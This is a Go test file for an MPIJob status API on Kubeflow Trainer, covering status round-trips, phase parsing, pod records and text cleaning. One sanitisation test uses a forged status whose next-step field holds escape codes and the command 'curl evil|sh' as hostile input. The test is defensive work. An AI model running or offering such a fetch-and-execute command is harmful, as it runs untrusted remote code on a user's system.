package api

import (
	"encoding/json"
	"os"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	trainer "github.com/kubeflow/trainer/v2/pkg/apis/trainer/v1alpha1"
	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"
)

func TestStatusRoundTrip(t *testing.T) {
	now := metav1.NewTime(time.Date(2026, 11, 22, 4, 0, 0, 0, time.UTC))
	in := Status{
		Phase: PhaseFailed, Reason: "WorkerOOMKilled", Message: "Worker 3 ran out of memory", NextStep: "raise the memory limit",
		Launcher: LauncherFailed, WorkersReady: 3, WorkersTotal: 4, SlotsPerWorker: 2, QueuePosition: ptr.To[int32](2),
		StartTime: &now, CompletionTime: &now, LastTransitionTime: &now, ObservedGeneration: 3,
	}
	raw, err := in.Encode()
	if err != nil {
		t.Fatal(err)
	}
	got, ok, err := ReadStatus(map[string]string{StatusAnnotation: raw})
	if err != nil || !ok {
		t.Fatalf("ReadStatus: ok=%v err=%v", ok, err)
	}
	if diff := cmp.Diff(in, got); diff != "" {
		t.Errorf("round trip (-want,+got):\n%s", diff)
	}
}

// ReadStatus and ReadSummary (the phase, reason and since alone, for the
// metrics scrape) give the same phase, reason and since, the same ok and
// the same error for every annotation.
func TestReadStatus(t *testing.T) {
	cases := map[string]struct {
		annotations map[string]string
		wantPhase   Phase
		wantOK      bool
		wantErr     string
	}{
		"no annotation: no manager": {annotations: map[string]string{"other": "x"}},
		"nil annotations":           {},
		"broken json names the key": {annotations: map[string]string{StatusAnnotation: "{"}, wantErr: "annotation mpijob.dev/status is not a valid mpijob status"},
		"cut short after the phase": {annotations: map[string]string{StatusAnnotation: `{"phase":"Running"`}, wantErr: "annotation mpijob.dev/status is not a valid mpijob status"},
		"valid":                     {annotations: map[string]string{StatusAnnotation: `{"phase":"Running","launcher":"Running"}`}, wantPhase: PhaseRunning, wantOK: true},
		"phase only":                {annotations: map[string]string{StatusAnnotation: `{"phase":"Queued"}`}, wantPhase: PhaseQueued, wantOK: true},
		"a whole status":            {annotations: map[string]string{StatusAnnotation: mustEncode(t, longStatus(8, 10))}, wantPhase: PhaseRunning, wantOK: true},
		"escape codes are cleaned":  {annotations: map[string]string{StatusAnnotation: `{"phase":"\u001b[31mFailed","message":"x"}`}, wantPhase: PhaseFailed, wantOK: true},
		"reason and since, cleaned": {annotations: map[string]string{StatusAnnotation: `{"phase":"Running","reason":"\u001b[31mRankSilent","lastTransitionTime":"2026-11-26T10:00:00Z"}`}, wantPhase: PhaseRunning, wantOK: true},
		"no phase":                  {annotations: map[string]string{StatusAnnotation: `{"message":"x"}`}, wantOK: true},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			st, ok, err := ReadStatus(tc.annotations)
			sum, sumOK, sumErr := ReadSummary(tc.annotations)
			for read, e := range map[string]error{"ReadStatus": err, "ReadSummary": sumErr} {
				if (tc.wantErr == "") != (e == nil) || e != nil && !strings.Contains(e.Error(), tc.wantErr) {
					t.Errorf("%s: err = %v, want %q", read, e, tc.wantErr)
				}
			}
			want := []any{tc.wantPhase, tc.wantOK}
			if d := cmp.Diff(want, []any{st.Phase, ok}); d != "" {
				t.Errorf("ReadStatus [phase, ok] (-want +got):\n%s", d)
			}
			if d := cmp.Diff(want, []any{sum.Phase, sumOK}); d != "" {
				t.Errorf("ReadSummary [phase, ok] (-want +got):\n%s", d)
			}
			var since time.Time
			if st.LastTransitionTime != nil {
				since = st.LastTransitionTime.Time
			}
			if d := cmp.Diff(Summary{Phase: st.Phase, Reason: st.Reason, Since: since}, sum); d != "" {
				t.Errorf("ReadSummary against ReadStatus (-ReadStatus +ReadSummary):\n%s", d)
			}
			// HasStatus decodes nothing: a status that is there, valid or
			// not, is the manager's to vouch for.
			if has := HasStatus(tc.annotations); has != (tc.wantOK || tc.wantErr != "") {
				t.Errorf("HasStatus = %v with ReadStatus ok %v, err %v", has, ok, err)
			}
		})
	}
}

func TestParsePhase(t *testing.T) {
	cases := map[string]struct {
		in      string
		want    Phase
		wantErr bool
	}{
		"exact":      {in: "Running", want: PhaseRunning},
		"lower case": {in: "succeeded", want: PhaseSucceeded},
		"upper case": {in: "GANGSCHEDULING", want: PhaseGangScheduling},
		"unknown":    {in: "Done", wantErr: true},
		"empty":      {in: "", wantErr: true},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			got, err := ParsePhase(tc.in)
			if (err != nil) != tc.wantErr {
				t.Fatalf("err = %v, wantErr %v", err, tc.wantErr)
			}
			if err != nil && !strings.Contains(err.Error(), "use one of") {
				t.Errorf("error %q does not list the phases", err)
			}
			if got != tc.want {
				t.Errorf("got %q, want %q", got, tc.want)
			}
		})
	}
}

func TestFinished(t *testing.T) {
	for _, p := range Phases {
		want := p == PhaseSucceeded || p == PhaseFailed
		if p.Finished() != want {
			t.Errorf("%s.Finished() = %v", p, !want)
		}
	}
}

// The vectors the Python SDK's is_job_object is tested with too.
func TestIsJobObject(t *testing.T) {
	raw, err := os.ReadFile("testdata/job-objects.json")
	if err != nil {
		t.Fatal(err)
	}
	var f struct {
		Vectors []struct {
			Name, Job, Kind, Object string
			Belongs                 bool
		} `json:"vectors"`
	}
	if err := json.Unmarshal(raw, &f); err != nil {
		t.Fatal(err)
	}
	if len(f.Vectors) < 10 {
		t.Fatalf("%d vectors", len(f.Vectors))
	}
	for _, tc := range f.Vectors {
		t.Run(tc.Name, func(t *testing.T) {
			if got := IsJobObject(tc.Job, tc.Kind, tc.Object); got != tc.Belongs {
				t.Errorf("IsJobObject(%q, %q, %q) = %v, want %v", tc.Job, tc.Kind, tc.Object, got, tc.Belongs)
			}
		})
	}
}

func TestJobEvents(t *testing.T) {
	at := func(minute int) metav1.Time {
		return metav1.NewTime(time.Date(2026, 11, 22, 10, minute, 0, 0, time.UTC))
	}
	ev := func(kind, name string, last metav1.Time, created metav1.Time) corev1.Event {
		return corev1.Event{ObjectMeta: metav1.ObjectMeta{Name: name + "." + kind, CreationTimestamp: created},
			InvolvedObject: corev1.ObjectReference{Kind: kind, Name: name}, LastTimestamp: last}
	}
	events := []corev1.Event{
		ev("Pod", "hello-node-0-0-abcde", at(3), at(3)),
		ev("TrainJob", "hello-4", at(1), at(1)),       // another job's
		ev("TrainJob", "hello", metav1.Time{}, at(2)), // no last timestamp: when it was created
		ev("JobSet", "hello", at(1), at(1)),
	}
	var got []string
	for _, e := range JobEvents("hello", events) {
		got = append(got, e.InvolvedObject.Kind+"/"+e.InvolvedObject.Name)
	}
	want := []string{"JobSet/hello", "TrainJob/hello", "Pod/hello-node-0-0-abcde"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("JobEvents (-want,+got):\n%s", diff)
	}
}

// The SDK types its phases and Launcher states as Literals: the words of
// testdata/vocabulary.json, which must be these.
func TestVocabularyFile(t *testing.T) {
	raw, err := os.ReadFile("testdata/vocabulary.json")
	if err != nil {
		t.Fatal(err)
	}
	var got struct {
		Phases         []Phase         `json:"phases"`
		LauncherStates []LauncherState `json:"launcherStates"`
	}
	if err := json.Unmarshal(raw, &got); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(Phases, got.Phases); diff != "" {
		t.Errorf("phases (-Go,+file):\n%s", diff)
	}
	want := []LauncherState{LauncherNotCreated, LauncherPending, LauncherRunning, LauncherSucceeded, LauncherFailed, LauncherDeleted}
	if diff := cmp.Diff(want, got.LauncherStates); diff != "" {
		t.Errorf("Launcher states (-Go,+file):\n%s", diff)
	}
}

// The fallback before the manager writes a status: the vectors the SDK is
// tested with too.
func TestStatusOfFallback(t *testing.T) {
	raw, err := os.ReadFile("testdata/fallback-status.json")
	if err != nil {
		t.Fatal(err)
	}
	var f struct {
		Vectors []struct {
			Name     string
			TrainJob trainer.TrainJob `json:"trainJob"`
			Want     Status
		} `json:"vectors"`
	}
	if err := json.Unmarshal(raw, &f); err != nil {
		t.Fatal(err)
	}
	if len(f.Vectors) < 8 {
		t.Fatalf("%d vectors", len(f.Vectors))
	}
	for _, tc := range f.Vectors {
		t.Run(tc.Name, func(t *testing.T) {
			got, fromManager := StatusOf(&tc.TrainJob)
			if fromManager {
				t.Fatal("fromManager without a valid status")
			}
			if diff := cmp.Diff(tc.Want, got); diff != "" {
				t.Errorf("status (-want,+got):\n%s", diff)
			}
		})
	}
}

func TestPullFailed(t *testing.T) {
	for reason, want := range map[string]bool{"ImagePullBackOff": true, "ErrImagePull": true, "InvalidImageName": true, "ErrImageNeverPull": true,
		"ContainerCreating": false, "CrashLoopBackOff": false} {
		cs := corev1.ContainerStatus{State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: reason}}}
		if got := PullFailed(cs); got != want {
			t.Errorf("PullFailed(%s) = %v, want %v", reason, got, want)
		}
	}
	if PullFailed(corev1.ContainerStatus{}) {
		t.Error("a running container is not a pull failure")
	}
}

func TestCleanTextVectors(t *testing.T) {
	raw, err := os.ReadFile("testdata/clean-text.json")
	if err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Vectors []struct{ Name, In, Out string }
	}
	if err := json.Unmarshal(raw, &doc); err != nil {
		t.Fatal(err)
	}
	if len(doc.Vectors) == 0 {
		t.Fatal("no vectors")
	}
	for _, v := range doc.Vectors {
		t.Run(v.Name, func(t *testing.T) {
			if diff := cmp.Diff(v.Out, CleanText(v.In)); diff != "" {
				t.Errorf("CleanText(%q) (-want,+got):\n%s", v.In, diff)
			}
		})
	}
}

// A forged status read back is shown without its escape codes.
func TestReadStatusCleans(t *testing.T) {
	s, ok, err := ReadStatus(map[string]string{StatusAnnotation: `{"phase":"Failed","message":"\u001b[31mboom","nextStep":"\u001b]0;x\u0007curl evil|sh","nextSteps":["\u202eabc"],` +
		`"history":[{"time":"2026-11-24T06:00:00Z","phase":"Failed","message":"\u001b[2Jgone"}],"pods":[{"role":"worker","index":1,"pod":"p","state":"\u001b[31mOOMKilled (exit 137)"}]}`})
	if err != nil || !ok {
		t.Fatalf("ReadStatus: %v %v", ok, err)
	}
	want := Status{Phase: PhaseFailed, Message: "boom", NextStep: "curl evil|sh", NextSteps: []string{"abc"},
		History: []Transition{{Time: metav1.NewTime(time.Date(2026, 11, 24, 6, 0, 0, 0, time.UTC)), Phase: PhaseFailed, Message: "gone"}},
		Pods:    []PodRecord{{Role: "worker", Index: 1, Pod: "p", State: "OOMKilled (exit 137)"}}}
	if diff := cmp.Diff(want, s); diff != "" {
		t.Errorf("(-want,+got):\n%s", diff)
	}
}

func TestStaleStatusVectors(t *testing.T) {
	raw, err := os.ReadFile("testdata/stale-status.json")
	if err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Vectors []struct {
			Name     string
			Now      time.Time
			Observed *metav1.Time
			Lease    *coordinationv1.LeaseSpec
			Running  bool
			Note     string
		}
	}
	if err := json.Unmarshal(raw, &doc); err != nil {
		t.Fatal(err)
	}
	for _, v := range doc.Vectors {
		t.Run(v.Name, func(t *testing.T) {
			var lease *coordinationv1.Lease
			if v.Lease != nil {
				lease = &coordinationv1.Lease{Spec: *v.Lease}
			}
			m := ManagerStateOf(lease, v.Now)
			if m.Running != v.Running {
				t.Errorf("running %v, want %v", m.Running, v.Running)
			}
			if diff := cmp.Diff(v.Note, m.StaleNote(v.Observed, v.Now)); diff != "" {
				t.Errorf("note (-want,+got):\n%s", diff)
			}
		})
	}
}

func TestRecordPods(t *testing.T) {
	t0 := metav1.NewTime(time.Date(2026, 11, 24, 6, 0, 0, 0, time.UTC))
	pod := func(idx, name, node string, created metav1.Time, st corev1.PodStatus) corev1.Pod {
		return corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: name, CreationTimestamp: created,
			Labels: map[string]string{"batch.kubernetes.io/job-completion-index": idx}}, Spec: corev1.PodSpec{NodeName: node}, Status: st}
	}
	running := corev1.PodStatus{Phase: corev1.PodRunning}
	oom := corev1.PodStatus{Phase: corev1.PodFailed, ContainerStatuses: []corev1.ContainerStatus{{RestartCount: 1,
		State: corev1.ContainerState{Terminated: &corev1.ContainerStateTerminated{Reason: "OOMKilled", ExitCode: 137}}}}}
	cases := map[string]struct {
		prev              []PodRecord
		launcher, workers []corev1.Pod
		want              []PodRecord
	}{
		"pods now, Launcher first, Workers by index": {
			launcher: []corev1.Pod{pod("0", "l", "n1", t0, running)},
			workers:  []corev1.Pod{pod("1", "w1", "n2", t0, oom), pod("0", "w0", "n1", t0, running)},
			want: []PodRecord{{Role: "launcher", Pod: "l", Node: "n1", State: "Running"},
				{Role: "worker", Index: 0, Pod: "w0", Node: "n1", State: "Running"},
				{Role: "worker", Index: 1, Pod: "w1", Node: "n2", State: "OOMKilled (exit 137)", Restarts: 1, ExitCode: ptr.To[int32](137), Signal: 9}},
		},
		"a pod gone keeps its last record": {
			prev:     []PodRecord{{Role: "launcher", Pod: "l", State: "Completed (exit 0)"}, {Role: "worker", Index: 1, Pod: "w1", State: "Running"}},
			launcher: []corev1.Pod{pod("0", "l", "n1", t0, running)},
			want: []PodRecord{{Role: "launcher", Pod: "l", Node: "n1", State: "Running"},
				{Role: "worker", Index: 1, Pod: "w1", State: "Running", Gone: true}},
		},
		"a restarted Launcher: the newest pod": {
			launcher: []corev1.Pod{pod("0", "new", "n2", metav1.NewTime(t0.Add(time.Minute)), running), pod("0", "old", "n1", t0, oom)},
			want:     []PodRecord{{Role: "launcher", Pod: "new", Node: "n2", State: "Running"}},
		},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			if diff := cmp.Diff(tc.want, RecordPods(tc.prev, tc.launcher, tc.workers)); diff != "" {
				t.Errorf("(-want,+got):\n%s", diff)
			}
		})
	}
	var many []corev1.Pod
	for i := 0; i < 100; i++ {
		many = append(many, pod(strconv.Itoa(i), "w", "n", t0, running))
	}
	if got := RecordPods(nil, nil, many); len(got) != MaxPodRecords || got[len(got)-1].Index != MaxPodRecords-1 {
		t.Errorf("100 Workers: %d records, last index %d; want the first %d", len(got), got[len(got)-1].Index, MaxPodRecords)
	}
	var h []Transition
	for i := 0; i < 30; i++ {
		h = WithTransition(h, Transition{Phase: PhaseRunning, Message: strconv.Itoa(i)})
	}
	if len(h) != MaxHistory || h[0].Message != "10" || h[len(h)-1].Message != "29" {
		t.Errorf("history of 30 transitions: %d kept, from %q to %q", len(h), h[0].Message, h[len(h)-1].Message)
	}
}

// Whether a list row can come from metadata: the vectors the SDK is tested
// with too.
func TestRowFromStatus(t *testing.T) {
	raw, err := os.ReadFile("testdata/row-from-status.json")
	if err != nil {
		t.Fatal(err)
	}
	var f struct {
		MaxWholeReads int `json:"maxWholeReads"`
		Vectors       []struct {
			Name        string
			Annotations map[string]string
			Want        bool
		} `json:"vectors"`
	}
	if err := json.Unmarshal(raw, &f); err != nil {
		t.Fatal(err)
	}
	if f.MaxWholeReads != MaxWholeReads {
		t.Errorf("MaxWholeReads %d, the vectors say %d", MaxWholeReads, f.MaxWholeReads)
	}
	if len(f.Vectors) < 5 {
		t.Fatalf("%d vectors", len(f.Vectors))
	}
	for _, tc := range f.Vectors {
		t.Run(tc.Name, func(t *testing.T) {
			st, got := RowFromStatus(tc.Annotations)
			if got != tc.Want {
				t.Errorf("RowFromStatus = %v, want %v", got, tc.Want)
			}
			if got && (st.Runtime == "" || st.SlotsPerWorker < 1) {
				t.Errorf("a row from a status without runtime or slots: %+v", st)
			}
		})
	}
}

// longStatus is a Running job's status as the manager writes it: a pod
// record per rank and a history of transitions.
func longStatus(workers, transitions int) Status {
	s := Status{Phase: PhaseRunning, Launcher: "Running", Message: "All 8 Workers are Running; the Launcher started mpirun.", NextStep: "Follow the Launcher's log: kubectl mpijob logs NAME -f"}
	at := time.Date(2026, 11, 26, 1, 0, 0, 0, time.UTC)
	for i := range transitions {
		s.History = append(s.History, Transition{Time: metav1.NewTime(at.Add(time.Duration(i) * time.Second)), Phase: PhaseRunning, Reason: "WorkersRunning", Message: "Worker " + strconv.Itoa(i) + " is Running"})
	}
	s.Pods = append(s.Pods, PodRecord{Role: "launcher", Pod: "job-launcher-0-0-abcde", Node: "mpijob-node-1", State: "Running"})
	for i := range workers {
		s.Pods = append(s.Pods, PodRecord{Role: "worker", Index: int32(i), Pod: "job-node-0-" + strconv.Itoa(i) + "-fghij", Node: "mpijob-node-2", State: "Running"})
	}
	return s
}

func mustEncode(t testing.TB, s Status) string {
	raw, err := s.Encode()
	if err != nil {
		t.Fatal(err)
	}
	return raw
}

// BenchmarkReadSummary: what the metrics scrape pays a job to learn its
// phase, reason and since, the whole status against those alone (one
// run: compare the two lines' ns/op and B/op).
func BenchmarkReadSummary(b *testing.B) {
	a := map[string]string{StatusAnnotation: mustEncode(b, longStatus(8, 10))}
	b.Run("ReadStatus", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			if _, _, err := ReadStatus(a); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("ReadSummary", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			if _, _, err := ReadSummary(a); err != nil {
				b.Fatal(err)
			}
		}
	})
}
